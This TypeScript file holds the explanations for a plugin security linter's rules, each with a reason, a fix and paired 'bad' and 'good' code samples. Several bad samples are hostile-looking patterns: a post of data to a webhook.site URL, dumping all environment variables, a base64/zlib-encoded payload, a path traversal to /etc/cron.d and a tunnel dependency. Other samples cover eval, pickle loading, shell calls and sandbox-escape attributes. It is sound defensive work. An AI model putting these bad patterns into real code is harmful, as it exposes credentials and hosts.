// Explains each rule and what to write instead, for `slipway lint --explain`, SARIF's help and the console.
import type { RuleId } from './rules.ts';

export interface Explanation {
  why: string;
  /** The fix, as an instruction. Left out where the message of each finding already says it. */
  fix?: string;
  /** Code, a command or a file name that the rule reports. */
  bad: string;
  good: string;
}

const manifestExample = 'feature_extractor_name = "text_embed"\nversion = "1.0.0"';

export const explanations: Record<RuleId, Explanation> = {
  SLP101: {
    why: 'The module starts processes or threads, calls native code or opens its own network connections. Plugins share a host and may do none of these.',
    fix: 'Remove the import. Read files with open_asset, and call services with httpx.',
    bad: 'import subprocess\nsubprocess.run(["ffmpeg", "-i", path])',
    good: 'from shared.plugins import open_asset\nwith open_asset(url) as stream: ...',
  },
  SLP102: {
    why: 'A star import brings in forbidden functions without naming them.',
    fix: 'Import the names you use.',
    bad: 'from os import *',
    good: 'from os import path, environ',
  },
  SLP110: {
    why: 'The module or function starts processes, threads or interpreters by another route than the modules that are forbidden outright.',
    fix: 'Remove it. Work in the process that runs the plugin, and read files with open_asset.',
    bad: 'import asyncio\nawait asyncio.create_subprocess_exec("ffmpeg")',
    good: 'from shared.plugins import open_asset\nwith open_asset(url) as stream: ...',
  },
  SLP111: {
    why: 'Plugins may not run servers, send mail or open raw connections, because that traffic does not pass an auditable proxy.',
    fix: 'Call services over HTTPS with httpx.',
    bad: 'import ftplib',
    good: 'import httpx\nresponse = httpx.get(url)',
  },
  SLP112: {
    why: 'A scan of Python code cannot see what native code does.',
    fix: 'Use a library from the index that has the native part, such as numpy.',
    bad: 'import cffi',
    good: 'import numpy\nvalues = numpy.frombuffer(data)',
  },
  SLP120: {
    why: 'A loader runs code that is not in the archive, or changes which code an import finds.',
    fix: 'Put the module into the archive and import it by name.',
    bad: 'import runpy\nrunpy.run_path(path)',
    good: 'from processors import resize',
  },
  SLP121: {
    why: 'Code objects, debuggers and profilers execute text or bytes as code.',
    fix: 'Write the code as functions, and measure time with time.perf_counter.',
    bad: 'import timeit\ntimeit.timeit("work()")',
    good: 'import time\nstarted = time.perf_counter()',
  },
  SLP122: {
    why: 'Frames, closures and the garbage collector give access to the whole interpreter.',
    fix: 'Pass what a function needs as an argument.',
    bad: 'import sys\nsys._getframe(1).f_globals',
    good: 'def run(context): ...',
  },
  SLP130: {
    why: 'Read and write files through the SDK, which knows which files belong to the plugin.',
    fix: 'Read files with open_asset from shared.plugins.',
    bad: 'import os\nos.remove(path)',
    good: 'from shared.plugins import open_asset\nwith open_asset(url) as stream: ...',
  },
  SLP140: {
    why: 'The library unpickles data, or creates objects of classes that the data names.',
    fix: 'Use the loader for plain data, such as yaml.safe_load or json.load.',
    bad: 'import yaml\nsettings = yaml.load(text)',
    good: 'import yaml\nsettings = yaml.safe_load(text)',
  },
  SLP150: {
    why: 'The plugin looks for credentials or reads the whole environment. Read the variables you need by name.',
    fix: 'Read each variable by its name with os.environ.get.',
    bad: 'import os\nsettings = dict(os.environ)',
    good: 'import os\nregion = os.environ.get("REGION")',
  },
  SLP151: {
    why: 'Pastebins, tunnels, chat webhooks and bare IP addresses are typical destinations of stolen data. In a file that also accesses credentials, this is an error.',
    fix: 'Send data only to the service that a parameter or setting names.',
    bad: 'httpx.post("https://webhook.site/abc", content=data)',
    good: 'httpx.post(settings["callback_url"], content=data)',
  },
  SLP160: {
    why: 'Code that hides what it does cannot be reviewed.',
    fix: 'Store data as a file in the archive instead of encoding it in the source.',
    bad: 'payload = zlib.decompress(base64.b64decode("eJzL…"))',
    good: 'weights = load_file("models/weights.safetensors")',
  },
  SLP190: {
    why: 'The module is neither part of Python nor on the list of libraries known to work in plugins.',
    fix: 'Use a library from the list, or put the module into the archive.',
    bad: 'import leftpad',
    good: 'import numpy',
  },
  SLP191: {
    why: "Names that begin with an underscore are a module's own. Many of them run text as code or are modules that plugins may not use, and they change without notice.",
    fix: 'Use a documented function of the module, or write your own.',
    bad: 'import dataclasses\ndataclasses._create_fn("run", [], body)',
    good: 'import dataclasses\ndataclasses.replace(settings, size=3)',
  },
  SLP201: {
    why: 'The builtin executes generated code, accesses files, or changes names in a way the scan cannot follow.',
    fix: 'Parse text with ast.literal_eval or json.loads, and read files with open_asset.',
    bad: 'value = eval(row["data"])',
    good: 'import ast\nvalue = ast.literal_eval(row["data"])',
  },
  SLP301: {
    why: 'The function starts or kills processes, or imports a module whose name is known only at run time.',
    fix: 'Call a library in this process, and import modules by name.',
    bad: 'import os\nos.system("convert " + path)',
    good: 'from PIL import Image\nImage.open(stream).convert("RGB")',
  },
  SLP401: {
    why: 'Loading a pickle executes any code that its author put into it.',
    fix: 'Store weights as safetensors, and other data as JSON.',
    bad: 'import pickle\nmodel = pickle.load(stream)',
    good: 'from safetensors.numpy import load_file\nweights = load_file("models/weights.safetensors")',
  },
  SLP402: {
    why: 'Data written by this module can only be read by executing code that the data contains.',
    fix: 'Use json, or safetensors for arrays.',
    bad: 'import pickle',
    good: 'import json',
  },
  SLP501: {
    why: 'These attributes lead from any object to every class and function of the interpreter, and are a common way to escape a sandbox.',
    fix: 'Use type(value), isinstance and getattr with a literal name.',
    bad: 'name = value.__class__.__name__',
    good: 'name = type(value).__name__',
  },
  SLP601: {
    why: 'A file that cannot be parsed cannot be scanned, and only scanned code is served. Use syntax that Python 3.12 or Go 1.26 accepts.',
    fix: 'Correct the syntax at this place.',
    bad: 'print "hello"',
    good: 'print("hello")',
  },
  SLP602: {
    why: 'The scan reads UTF-8. With another encoding, Python could run code that differs from the code that was scanned.',
    fix: 'Save the file as UTF-8 and remove the encoding declaration.',
    bad: '# -*- coding: latin-1 -*-',
    good: '# saved as UTF-8, without an encoding declaration',
  },
  SLP603: {
    why: 'The file exceeds the limits that keep a scan bounded: size, nesting depth or number of findings.',
    fix: 'Split the file, or move large data to a JSON file.',
    bad: 'TABLE = [[[[ … nested 300 levels deep … ]]]]',
    good: 'import json\nTABLE = json.load(open_asset("table.json"))',
  },
  SLP701: {
    why: 'When unpacked, the path would leave its folder, mean something else on another system, or look like a different name.',
    fix: 'Rename the entry to a plain relative path.',
    bad: '../../etc/cron.d/job',
    good: 'processors/core.py',
  },
  SLP702: {
    why: 'Links and devices would let the plugin read or write files that are not its own.',
    fix: 'Pack the file that the link refers to.',
    bad: 'models -> /var/models',
    good: 'models/ with the files themselves',
  },
  SLP703: {
    why: 'On some systems the two entries would become one file, so the unpacked files could differ from the scanned ones.',
    fix: 'Rename one of the two.',
    bad: 'core.py and Core.py',
    good: 'core.py and core_batch.py',
  },
  SLP704: {
    why: 'Parts of the archive contradict each other, so two programs could unpack different files from it.',
    fix: 'Pack the folder again with zip, tar or `slipway publish`.',
    bad: 'an archive that was patched, concatenated with another file or damaged',
    good: 'zip -r plugin.zip my_plugin/',
  },
  SLP705: {
    why: 'An archive may have at most 1,000 entries, 500 MiB unpacked, 50 MiB of source and a compression ratio of 100:1.',
    fix: "Leave out environments, caches and data that the plugin doesn't need.",
    bad: 'a zip that contains a virtual environment',
    good: 'zip -r plugin.zip my_plugin/ -x "*/.venv/*" "*/node_modules/*"',
  },
  SLP706: {
    why: 'Only plain zip is read the same way everywhere: stored or deflated, unencrypted, in a single part.',
    fix: 'Pack the folder again without encryption, with zip or `slipway publish`.',
    bad: 'zip --encrypt plugin.zip …',
    good: 'zip -r plugin.zip my_plugin/',
  },
  SLP707: {
    why: 'Compiled code cannot be scanned. List packages with native parts as dependencies; the platform builds them.',
    fix: 'Remove the file, and list the package it belongs to as a dependency.',
    bad: 'fast_core.cpython-312-x86_64-linux-gnu.so',
    good: 'dependencies = ["numpy>=2"]',
  },
  SLP708: {
    why: 'The content of a nested archive is not scanned, but Python can import from it.',
    fix: 'Unpack it into the plugin, or list the package as a dependency.',
    bad: 'vendor/library.whl',
    good: 'dependencies = ["library==1.4.2"]',
  },
  SLP709: {
    why: 'A plugin needs a manifest.py that describes it and a pipeline.py that runs it at its root. A Go plugin needs the files of its package there.',
    fix: 'Add the file at the root of the plugin.',
    bad: 'my_plugin/src/manifest.py',
    good: 'my_plugin/manifest.py and my_plugin/pipeline.py',
  },
  SLP710: {
    why: 'The file is not a zip or tar.gz archive, or is incomplete.',
    fix: 'Pack the folder as zip or tar.gz and upload it again.',
    bad: 'an incomplete download',
    good: 'zip -r plugin.zip my_plugin/',
  },
  SLP711: {
    why: 'The file contains or may contain pickled data. Loading it executes the code in it.',
    fix: 'Store weights as safetensors, and other data as JSON.',
    bad: 'models/weights.pkl',
    good: 'models/weights.safetensors',
  },
  SLP712: {
    why: 'A dependency that is not installed by name from the package index can change without notice, and others may be unable to install it.',
    fix: 'Name the package and its version, such as library==1.4.2.',
    bad: 'git+https://example.com/library.git',
    good: 'library==1.4.2',
  },
  SLP713: {
    why: 'Python runs this file automatically, or it may be run later, but the scan does not read its language.',
    fix: 'Remove the file, or write it as a module that pipeline.py imports.',
    bad: 'sitecustomize.py',
    good: 'processors/setup.py, imported by pipeline.py',
  },
  SLP801: {
    why: 'The name that is looked up on a module with forbidden functions is known only at run time, so it may be one of them.',
    fix: 'Name the attribute literally.',
    bad: 'getattr(os, name)()',
    good: 'os.getcwd()',
  },
  SLP901: {
    why: "The package starts processes, loads or calls native code, or bypasses Go's type safety. Plugins may do none of these, and are compiled without cgo.",
    fix: 'Remove the import, and do the same with packages that Go plugins may use.',
    bad: 'package main\n\nimport "os/exec"\n\nvar convert = exec.Command("ffmpeg")',
    good: 'package main\n\nimport "net/http"\n\nvar client = &http.Client{}',
  },
  SLP902: {
    why: 'Assembly, C, prebuilt objects and the directives that link them add non-Go code to the program. Embedded files must be inside the module.',
    fix: 'Remove the file or the directive, and write it in Go.',
    bad: 'package main\n\n//go:linkname runtimeNow time.now\nfunc runtimeNow() (sec int64, nsec int32, mono int64)',
    good: 'package main\n\nimport "time"\n\nvar started = time.Now()',
  },
  SLP903: {
    why: "A plugin is built from a single commit, with versioned modules and the platform's Go toolchain. Local replacements, submodules and files stored outside the repository are not available.",
    fix: 'Require the published version of the module.',
    bad: 'module example.com/plugin\n\ngo 1.24\n\nreplace example.com/library => ../library',
    good: 'module example.com/plugin\n\ngo 1.24\n\nrequire example.com/library v1.4.2',
  },
  SLP904: {
    why: 'This is allowed, and often correct. But it runs before any call, opens a port, changes state of the whole process, or never runs on the platform.',
    fix: "Check that the plugin needs it. It needn't be changed.",
    bad: 'package main\n\nimport "os"\n\nfunc init() { os.Setenv("MODE", "fast") }',
    good: 'package main\n\ntype options struct{ mode string }\n\nvar defaults = options{mode: "fast"}',
  },
  SLP905: {
    why: 'A module that go.mod requires starts programs, calls C or runs assembly, and its source is not scanned. Or the analysis of the program failed, so that nothing is known of it.',
    fix: 'Require a module that does the same in plain Go. If the module is trusted, have the rule waived for the plugin. If the analysis failed, install the plugin again.',
    bad: 'module example.com/plugin\n\ngo 1.24\n\nrequire github.com/cespare/xxhash/v2 v2.3.0',
    good: 'package main\n\nimport "hash/fnv"\n\nvar hash = fnv.New64a()',
  },
  SLP906: {
    why: 'The program can use the network, itself or through a module, but plugin.yaml asks for no host. Plugins reach only the hosts that they are granted, so every connection fails.',
    fix: "Ask for the hosts under `permissions` in plugin.yaml, or remove the module that connects. If no call connects, it needn't be changed.",
    bad: 'name: rates\nversion: "1.0.0"',
    good: 'name: rates\nversion: "1.1.0"\npermissions:\n  network: [api.example.com]',
  },
  SLM101: {
    why: 'The registry stores a version under its name and number and reads both without running manifest.py. They must be literals and match the upload.',
    bad: 'version = get_version()',
    good: manifestExample,
  },
  SLM102: {
    why: 'Each feature becomes a vector index, which needs a type, name, dimension and metric under exactly these keys.',
    bad: 'features = [{"type": "vector", "name": "text", "dimensions": 384}]',
    good: 'features = [{\n    "feature_type": "embedding", "feature_name": "text_embedding",\n    "embedding_dim": 384, "distance_metric": "cosine",\n}]',
  },
  SLM103: {
    why: 'Queries find the plugin by its feature_uri, which must name this plugin and this version.',
    bad: 'feature_uri = "mixpeek://other@1.0.0"',
    good: 'feature_uri = "mixpeek://text_embed@1.0.0"',
  },
  SLM104: {
    why: 'A manifest only describes a plugin. Move large data to another file.',
    bad: 'VOCABULARY = [ … 100,000 words … ] in manifest.py',
    good: 'VOCABULARY in processors/vocabulary.py',
  },
  SLM106: {
    why: 'Remote shells and tunnels give others access to the machine that runs the plugin.',
    bad: 'dependencies = ["pyngrok"]',
    good: 'dependencies = ["httpx>=0.27"]',
  },
  SLM107: {
    why: 'An organization grants what a plugin asks for, so a request has to be readable without running manifest.py.',
    bad: 'permissions = {"network": ["https://api.example.com/v1"]}',
    good: 'permissions = {"network": ["api.example.com"]}',
  },
  SLM108: {
    why: 'Calls, answers and batches are checked against the schemas of the manifest, and callers rely on them. A schema that its metaschema refuses, or with a reference that leads nowhere, says nothing about them.',
    bad: 'output_schema = {"type": "object", "properties": {"size": {"type": "integr"}}}',
    good: 'output_schema = {"type": "object", "properties": {"size": {"type": "integer"}}}',
  },
  SLM109: {
    why: 'A type that does not exist would be ignored, and the plugin would run on a machine that it was not made for.',
    bad: 'compute_profile = {"resource_type": "tpu"}',
    good: 'compute_profile = {"resource_type": "cpu"}',
  },
  SLM201: {
    why: 'The platform runs batches through build_steps and calls nothing else in pipeline.py.',
    bad: 'def run(request): ...',
    good: 'def build_steps(extractor_request, container=None, base_steps=None, **kwargs):\n    return {"steps": [Processor]}',
  },
  SLM301: {
    why: 'A plugin with realtime.py has an endpoint, so it needs a class with a method that Slipway can call.',
    bad: 'class Service:\n    def run(self): ...',
    good: 'class TextInferenceService(BaseInferenceService):\n    def run_inference(self, inputs: dict, parameters: dict) -> dict: ...',
  },
  SLM401: {
    why: 'The upload did not name a version, so the registry assigned the next one. The version in manifest.py is ignored.',
    bad: 'version = "1.0.0", uploaded without a version after 1.0.3',
    good: 'an upload that names the version in its manifest',
  },
  SLM402: {
    why: 'The manifest is read without being run. Values that are not literals, or not of the expected type, are ignored, and so are names that are no field.',
    bad: 'dependencies = read_requirements()',
    good: 'dependencies = ["numpy>=2"]',
  },
  SLM403: {
    why: 'A feature is an output column. A feature that output_schema lacks is probably misspelled in one of the two.',
    bad: '"feature_name": "text_embedding" and output_schema = {"embedding": …}',
    good: '"feature_name": "text_embedding" and output_schema = {"text_embedding": …}',
  },
  SLM404: {
    why: 'Queries by this URI need a realtime.py, and the feature that the URI names.',
    bad: 'feature_uri = "mixpeek://text_embed@1.0.0" without realtime.py',
    good: 'feature_uri and realtime.py, or neither',
  },
  SLM405: {
    why: 'The requirements of manifest.py and requirements.txt apply together. Two different pins of a package are an error.',
    bad: 'dependencies = ["numpy==2.1.0"] and numpy==2.0.0 in requirements.txt',
    good: 'each package in only one of the two',
  },
  SLM406: {
    why: 'The package is not among the libraries known to work in plugins. It is installed anyway if it has a wheel.',
    bad: 'dependencies = ["leftpad"]',
    good: 'dependencies = ["numpy>=2"]',
  },
  SLM407: {
    why: 'A plugin can import what it declares. Others may be there by chance, because a declared package needs them.',
    bad: 'import numpy, without dependencies',
    good: 'import numpy, with dependencies = ["numpy>=2"]',
  },
  SLM408: {
    why: 'A plugin reaches only hosts that it asks for and that its organization grants. One that calls services and asks for none fails at its first call.',
    bad: 'compute_profile = {"resource_type": "api"}',
    good: 'compute_profile = {"resource_type": "api"}\npermissions = {"network": ["api.example.com"]}',
  },
  SLM409: {
    why: 'A key that is no keyword of JSON Schema has no effect, and a schema with a pattern or reference that Slipway does not evaluate is not used to check anything.',
    bad: 'input_schema = {"type": "object", "requird": ["text"]}',
    good: 'input_schema = {"type": "object", "required": ["text"]}',
  },
  SLM410: {
    why: 'No machine of this installation runs plugins on a GPU. A deployment fails instead of running on the CPU without a word.',
    bad: 'compute_profile = {"resource_type": "gpu"}',
    good: 'compute_profile = {"resource_type": "cpu"}',
  },
  SLM411: {
    why: 'The import refers to a file that is not in the plugin, so the plugin would fail to start.',
    bad: 'from .processors.core import Processor, without processors/core.py',
    good: 'from .processors.core import Processor, with processors/core.py',
  },
  SLM412: {
    why: 'Without __init__.py the folder is not a regular package, and some tools do not find its modules.',
    bad: 'processors/core.py without processors/__init__.py',
    good: 'processors/__init__.py and processors/core.py',
  },
  SLM421: {
    why: 'A batch has its content in the column `data`, whatever the column was called before.',
    bad: 'texts = batch["text"]',
    good: 'texts = batch["data"]',
  },
  SLM422: {
    why: 'Processing a batch row by row is the most common reason for a slow plugin.',
    bad: 'for _, row in batch.iterrows():\n    vectors.append(model.encode(row["data"]))',
    good: 'vectors = model.encode(batch["data"].tolist())',
  },
  SLU101: {
    why: 'The archive is not the one whose size was sent as file_size_bytes when the upload was created. It may have changed since then.',
    fix: 'Send the size of the archive that you upload, or none.',
    bad: '{"name": "text_embed", "file_size_bytes": 5000}, then a PUT of 715 bytes',
    good: '{"name": "text_embed", "file_size_bytes": 715}, or no size',
  },
};
